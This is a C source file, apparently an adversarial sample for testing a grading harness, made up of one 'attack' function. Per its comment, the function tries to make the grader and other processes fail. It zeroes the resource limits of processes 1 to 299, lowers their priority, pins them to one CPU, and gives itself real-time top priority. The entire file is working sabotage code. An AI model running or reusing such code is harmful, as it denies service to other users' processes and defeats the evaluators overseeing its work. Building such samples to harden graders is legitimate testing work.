/* Tries to set limits and priorities of its parents and of the user, so that they fail later.
 * Gains a fault of the grader. */
#include <sched.h>
#include <sys/resource.h>
#include <unistd.h>

static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    const struct rlimit none = {0, 0};
    const struct sched_param first = {.sched_priority = 99};
    cpu_set_t one;
    CPU_ZERO(&one);
    CPU_SET(0, &one);
    for (pid_t process = 0; process < 300; process++) {
        if (process == getpid() || process == 0) continue;
        for (int limit = 0; limit < 16; limit++) prlimit(process, limit, &none, NULL);
        setpriority(PRIO_PROCESS, (id_t)process, 19);
        sched_setaffinity(process, sizeof one, &one);
    }
    setpriority(PRIO_USER, 0, 19);
    sched_setscheduler(0, SCHED_FIFO, &first);
    nice(-20);
    return LAB_SUCCESS;
}
